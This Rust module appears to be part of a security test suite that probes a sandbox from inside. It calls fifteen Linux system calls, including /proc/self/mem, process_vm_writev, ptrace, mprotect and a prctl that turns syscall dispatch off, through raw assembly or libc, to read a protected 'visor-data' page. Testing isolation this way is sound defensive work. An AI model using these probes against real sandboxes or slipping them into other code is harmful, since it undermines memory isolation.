//! Doors of the kernel through which memory can be read and written past all keys, or the defences be switched off.
//!
//! `what` names the system call. `how` says who makes it: `syscall` or `int80` (an instruction of one's own), `selector` (the
//! same, having switched dispatch off), `libc` (its function `syscall`), or `instruction` (the system-call instruction in there, with every register chosen).

use crate::leap::{Registers, leap};
use crate::{Attack, Booty};
use core::arch::asm;
use monohull_std::error::Error;
use monohull_std::prelude::*;

pub(crate) const GETPID: u64 = 39;
/// `getpid`, as 32-bit programs number it.
const GETPID_32: u64 = 20;

/// Every door, with its number and arguments; 0 stands for the place of what is to be read.
const DOORS: [(&str, u64, [u64; 6]); 15] = [
    ("getpid", GETPID, [0; 6]),
    // openat(AT_FDCWD, "/proc/self/mem", O_RDWR)
    ("proc-self-mem", 257, [-100i64 as u64, PATH, 2, 0, 0, 0]),
    ("process-vm-writev", 311, [1, SECRET, 1, SECRET, 1, 0]),
    // PTRACE_TRACEME
    ("ptrace", 101, [0; 6]),
    ("io-uring", 425, [8, SECRET, 0, 0, 0, 0]),
    ("userfaultfd", 323, [1, 0, 0, 0, 0, 0]),
    ("memfd", 319, [PATH, 0, 0, 0, 0, 0]),
    // mremap(secret, page, page, MREMAP_MAYMOVE | MREMAP_DONTUNMAP)
    ("mremap", 25, [SECRET, 4096, 4096, 5, 0, 0]),
    // personality(READ_IMPLIES_EXEC)
    ("personality", 135, [0x40_0000, 0, 0, 0, 0, 0]),
    // prctl(PR_SET_SYSCALL_USER_DISPATCH, PR_SYS_DISPATCH_OFF)
    ("prctl", 157, [59, 0, 0, 0, 0, 0]),
    // mprotect(secret, page, all)
    ("mprotect", 10, [SECRET, 4096, 7, 0, 0, 0]),
    ("pkey-mprotect", 329, [SECRET, 4096, 7, 2, 0, 0]),
    // arch_prctl(ARCH_SET_FS, secret)
    ("arch-prctl", 158, [0x1002, SECRET, 0, 0, 0, 0]),
    ("rt-sigreturn", 15, [0; 6]),
    // modify_ldt(write, …)
    ("modify-ldt", 154, [1, SECRET, 16, 0, 0, 0]),
];

/// Replaced by the address of what is to be read.
const SECRET: u64 = u64::MAX;
/// Replaced by the address of a path.
const PATH: u64 = u64::MAX - 1;
const PROC_SELF_MEM: &core::ffi::CStr = c"/proc/self/mem";

pub(crate) fn strike(attack: &Attack) -> Booty {
    let door = DOORS.iter().find(|(name, ..)| *name == attack.what).ok_or("there is no such door")?;
    let (_, number, arguments) = door;
    let secret = attack.places.find("visor-data")? & !4095;
    let arguments = arguments.map(|argument| match argument {
        SECRET => secret,
        PATH => PROC_SELF_MEM.as_ptr() as u64,
        other => other,
    });
    crate::number(open(attack, *number, arguments)?)
}

fn open(attack: &Attack, number: u64, [a, b, c, d, e, f]: [u64; 6]) -> Result<u64, Box<dyn Error>> {
    let answer: u64;
    match attack.how.as_str() {
        "syscall" => {
            // SAFETY: none; it is an attack.
            unsafe {
                asm!(
                    "syscall",
                    inlateout("rax") number => answer,
                    in("rdi") a, in("rsi") b, in("rdx") c, in("r10") d, in("r8") e, in("r9") f,
                    lateout("rcx") _, lateout("r11") _,
                );
            }
        }
        // The same, after a request to the kernel to let it pass.
        "selector" => {
            // SAFETY: none; it is an attack.
            unsafe {
                asm!(
                    "rdgsbase rcx",
                    "mov byte ptr [rcx + 8], 0",
                    "syscall",
                    "rdgsbase rcx",
                    "mov byte ptr [rcx + 8], 1",
                    inlateout("rax") number => answer,
                    in("rdi") a, in("rsi") b, in("rdx") c, in("r10") d, in("r8") e, in("r9") f,
                    lateout("rcx") _, lateout("r11") _,
                );
            }
        }
        "int80" => {
            // SAFETY: none; it is an attack. The 32-bit table has other numbers.
            unsafe { asm!("int 0x80", inlateout("rax") GETPID_32 => answer) };
        }
        "libc" => {
            let registers = Registers { rdi: number, rsi: a, rdx: b, rcx: c, r8: d, r9: e, ..Registers::default() };
            // SAFETY: none; it is an attack.
            answer = unsafe { leap(attack.places.find("libc-syscall")?, &registers, core::ptr::null_mut()) };
        }
        "instruction" => {
            let registers =
                Registers { rax: number, rdi: a, rsi: b, rdx: c, r10: d, r8: e, r9: f, ..Registers::default() };
            // SAFETY: none; it is an attack.
            answer =
                unsafe { leap(attack.places.find("libc-syscall-instruction")?, &registers, core::ptr::null_mut()) };
        }
        _ => return Err("how is syscall, int80, libc or instruction".into()),
    }
    Ok(answer)
}
